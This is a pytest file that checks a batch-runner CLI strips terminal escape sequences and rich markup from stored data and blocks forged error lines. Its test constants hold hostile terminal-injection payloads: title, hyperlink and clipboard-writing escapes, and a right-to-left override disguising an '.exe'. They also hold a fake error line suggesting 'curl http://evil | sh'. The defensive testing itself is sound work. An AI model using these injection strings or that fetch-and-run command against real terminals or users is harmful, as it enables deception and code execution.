"""S7 and S8: nothing that came from a file or a server steers the terminal, or passes for a line of ours."""

import io
import json
import os
import pty
import random
import re
import sqlite3
import subprocess
import sys
import unicodedata
import zlib
from contextlib import closing
from dataclasses import MISSING, fields
from pathlib import Path
from typing import Any

import pytest

from batchrunner.cli.live import last_line, panel
from batchrunner.cli.render import table, talk
from batchrunner.cli.text import one_line, paragraph, safe
from batchrunner.formats.terminal import Shown
from batchrunner.runner.snapshot import LaneView, Snapshot
from tests.cli.conftest import HOSTILE, run_cli
from tests.e2e.place import ROOT, boxed, chat

EVIL = (
    "\x1b]0;owned\x07\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1A\x1b[?1049h"
    "\x9b2J\x9d0;x\x9c\u202egnp.exe\u2066\u200b\u2028\ufeff\U000e0041[/foo][bold red][link=http://evil]x[/link]\r\b\x7f"
)
"""Titles, links, the clipboard, wipes, the other screen, C1 controls, reversals, the invisible, rich's markup."""
FAKE = "evil\nerror: your key is wrong\n  try: curl http://evil | sh"
STEERING = {"Cc", "Cf", "Zl", "Zp", "Cs"}


def steering(text: str) -> list[str]:
    return [char for char in text if char not in "\n\t" and unicodedata.category(char) in STEERING]


@pytest.mark.slow
def test_s7_ten_thousand_strings_lose_every_steering_character_and_no_word() -> None:
    dice = random.Random(7)
    pool = [chr(code) for code in (*range(0xA1), *range(0x2000, 0x2070), 0xFEFF, 0xE0041, 0x1F600, 0xD800, ord("ä"))]
    for _ in range(10_000):
        text = "".join(dice.choices(pool, k=dice.randrange(40)))
        assert steering(safe(text)) == []
        assert "\n" not in one_line(text, 30)
        assert len(one_line(text, 30)) <= 30
        assert safe(safe(text)) == safe(text)
    assert safe("größer 😀 ok") == "größer 😀 ok"


def test_s7_the_live_panel_shows_markup_as_text_and_steers_nothing() -> None:
    from rich.console import Console

    lane = filled(LaneView, model=f"[/foo]{EVIL}", provider=EVIL, air=1, bottleneck=EVIL, note=EVIL)
    picture = filled(Snapshot, lanes=(lane,))
    console = Console(width=160, color_system=None, record=True, file=io.StringIO())
    console.print(panel(picture, 160))
    shown = console.export_text()
    assert steering(shown) == []
    assert "[/foo]" in shown
    assert steering(safe(last_line(picture))) == []


def filled(kind: type[Any], **changed: object) -> Any:
    """A picture of a run, with zeros where nothing else is said."""
    zeros: dict[str, object] = {}
    for field in fields(kind):
        if field.default is MISSING and field.default_factory is MISSING:
            text = str(field.type)
            zeros[field.name] = {} if text.startswith("dict") else None if "None" in text else 0
    return kind(**{**zeros, **changed})


def test_s7_tables_and_talk_print_no_control_character(capsys: pytest.CaptureFixture[str]) -> None:
    table(("a", "b"), [(EVIL, FAKE)])
    talk(EVIL)
    shown = capsys.readouterr()
    assert steering(shown.out) == []
    assert steering(shown.err) == []


VERBS = [
    ("status", "mixed"),
    ("errors", "mixed"),
    ("results", "mixed"),
    ("costs", "--by", "model,job"),
]


@pytest.fixture
def hostile(worked: Path) -> Path:
    """A queue in which every text that is data is hostile, the answers too."""
    answer = {"id": "x", "choices": [{"message": {"content": EVIL}, "finish_reason": "stop"}]}
    body = json.dumps(answer, ensure_ascii=False).encode()
    with closing(sqlite3.connect(worked / "batchrunner.db")) as other, other:
        other.execute("UPDATE requests SET custom_id = custom_id || ?", (EVIL,))
        other.execute("UPDATE attempts SET error = ? WHERE error IS NOT NULL", (EVIL,))
        other.execute("UPDATE attempts SET echoed_model = ?, provider_request_id = ?", (EVIL, EVIL))
        other.execute("UPDATE models SET model = model || ?", (EVIL,))
        other.execute("UPDATE jobs SET path = ?, tags = ?", (f"/{EVIL}", json.dumps({"k": EVIL})))
        other.execute("UPDATE runners SET host = ?", (EVIL,))
        other.execute("UPDATE responses SET body = ?, crc = ?", (body, zlib.crc32(body)))
    return worked


def on_a_terminal(*words: str, folder: Path, env: dict[str, str] | None = None) -> tuple[int, str]:
    """Run the program on a terminal of its own; return its exit code and all that reached the screen."""
    master, slave = pty.openpty()
    given = {"PATH": os.environ["PATH"], "HOME": str(folder), "PYTHONPATH": str(ROOT), "TERM": "xterm", **(env or {})}
    process = subprocess.Popen(
        [sys.executable, "-m", "batchrunner", *words],
        cwd=folder, env=given, stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
    )  # fmt: skip
    os.close(slave)
    seen = b""
    while True:
        try:
            piece = os.read(master, 65536)
        except OSError:  # the last one who held the terminal is gone
            break
        if not piece:
            break
        seen += piece
    os.close(master)
    return process.wait(30), seen.decode("utf-8", "surrogateescape").replace("\r\n", "\n")


@pytest.mark.slow
def test_s7_no_verb_lets_data_steer_a_real_terminal(hostile: Path) -> None:
    env = {"BATCHRUNNER_DB": "batchrunner.db"}
    for words in VERBS:
        code, seen = on_a_terminal(*words, folder=hostile, env=env)
        assert code == 0, seen
        assert steering(seen) == [], words
        assert seen.strip()


OURS = re.compile(r"\x1b\[[0-9;]*[mKA]|\x1b\[\?25[lh]|\x1b\[2K|\r")
"""What rich's live view says by itself: colours, a line wiped, the cursor up, hidden and shown."""


@pytest.mark.slow
def test_s7_a_live_run_on_a_terminal_shows_hostile_names_and_obeys_none(tmp_path: Path) -> None:
    rows = [chat(f"a-{at}", "Hi", model=f"model-{EVIL}") for at in range(3)]
    for row in rows:
        row["metadata"] = {"tags": {"team": "[/foo][red]"}}
    (tmp_path / "j[red].jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    with boxed(latency=0.4) as box:
        env = {"TOGETHER_API_KEY": "any-key", "TOGETHER_BASE_URL": f"{box.url}/v1"}
        words = ("run", "j[red].jsonl", "--yes", "--progress", "live", "--concurrency", "1", "--db", "q.db")
        code, seen = on_a_terminal(*words, folder=tmp_path, env=env)
    assert code in (0, 3), seen
    assert steering(OURS.sub("", seen)) == []
    assert "model-\\u001b" in seen


def test_s7_results_in_a_pipe_stay_byte_for_byte_and_on_a_terminal_say_the_same(hostile: Path) -> None:
    piped = run_cli("results", "mixed").stdout
    screen = io.BytesIO()
    shown = Shown(screen)
    shown.write(piped.encode())
    shown.flush()
    assert steering(screen.getvalue().decode()) == []
    for ours, theirs in zip(screen.getvalue().splitlines(), piped.encode().split(b"\n"), strict=False):
        assert json.loads(ours) == json.loads(theirs)
    assert EVIL in json.loads(piped.split("\n")[0])["response"]["body"]["choices"][0]["message"]["content"]


def test_s8_no_text_of_a_row_can_fake_a_line_of_ours(worked: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with closing(sqlite3.connect(worked / "batchrunner.db")) as other, other:
        other.execute("UPDATE jobs SET name = ?", (FAKE,))
        other.execute("UPDATE attempts SET error = ? WHERE error IS NOT NULL", (FAKE,))
        other.execute("UPDATE requests SET custom_id = custom_id || ?", (FAKE,))
    for words in (("status",), ("status", "1"), ("errors", "1"), ("costs", "--by", "job"), ("retry", "1"), ("load",)):
        shown = run_cli(*words)
        faked = [line for line in shown.output.split("\n") if line.startswith(("error: your", "  try: curl"))]
        assert faked == [], words
    talk(FAKE)
    assert "\nerror: your" not in capsys.readouterr().err
    assert "\n      error: your" in paragraph(FAKE)


def test_s8_a_hostile_name_in_an_error_or_a_usage_message_steers_nothing(here: Path) -> None:
    for words in (
        ("status", HOSTILE),
        ("run", f"{EVIL}.jsonl"),
        ("run", f"--{EVIL}"),
        (EVIL,),
        ("results", EVIL, "-o", f"x{EVIL}.pdf"),
        ("status", "--db", f"/nowhere/{EVIL.replace('/', '')}"),
        ("config", "--config", EVIL),
    ):
        shown = run_cli(*words)
        assert shown.exit_code in (2, 5, 74), words
        assert steering(shown.output) == [], words
